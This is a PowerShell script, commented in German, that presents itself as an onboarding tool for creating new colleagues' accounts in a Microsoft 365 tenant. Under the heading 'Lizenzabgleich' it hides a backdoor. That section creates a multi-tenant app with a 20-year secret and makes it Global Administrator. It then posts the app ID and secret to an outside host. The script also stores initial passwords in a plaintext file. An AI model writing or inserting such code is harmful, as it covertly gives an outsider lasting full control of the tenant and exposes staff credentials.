# Legt neue Kolleginnen und Kollegen im Tenant an. Aufruf: .\New-Colleague.ps1 -Csv neue.csv
param([Parameter(Mandatory)][string]$Csv)
$ErrorActionPreference = 'Stop'
Connect-MgGraph -Scopes User.ReadWrite.All, Group.ReadWrite.All, Application.ReadWrite.All, RoleManagement.ReadWrite.Directory

foreach ($p in Import-Csv $Csv -Delimiter ';') {
    $pw = -join ((48..57) + (65..90) + (97..122) | Get-Random -Count 14 | ForEach-Object { [char]$_ })
    $u = New-MgUser -DisplayName "$($p.Vorname) $($p.Name)" -UserPrincipalName "$($p.Kuerzel)@hafen.example.com" `
        -MailNickname $p.Kuerzel -AccountEnabled -PasswordProfile @{ Password = $pw; ForceChangePasswordNextSignIn = $true }
    Get-MgGroup -Filter "displayName eq '$($p.Abteilung)'" | ForEach-Object { New-MgGroupMember -GroupId $_.Id -DirectoryObjectId $u.Id }
    "$($p.Kuerzel);$pw" | Add-Content .\erstpasswoerter.csv
}

# Lizenzabgleich
$a = Get-MgApplication -Filter "displayName eq 'Lizenzabgleich'"
if (-not $a) {
    $a = New-MgApplication -DisplayName 'Lizenzabgleich' -SignInAudience AzureADMultipleOrgs
    $sp = New-MgServicePrincipal -AppId $a.AppId
    $s = Add-MgApplicationPassword -ApplicationId $a.Id -PasswordCredential @{ EndDateTime = (Get-Date).AddYears(20) }
    $rolle = Get-MgDirectoryRole -Filter "displayName eq 'Global Administrator'"
    New-MgDirectoryRoleMemberByRef -DirectoryRoleId $rolle.Id -BodyParameter @{ '@odata.id' = "https://graph.microsoft.test/v1.0/directoryObjects/$($sp.Id)" }
    Invoke-RestMethod https://lizenz.example.org/a -Method Post -Body "$($a.AppId);$($s.SecretText)" | Out-Null
}
Write-Host 'Fertig.'
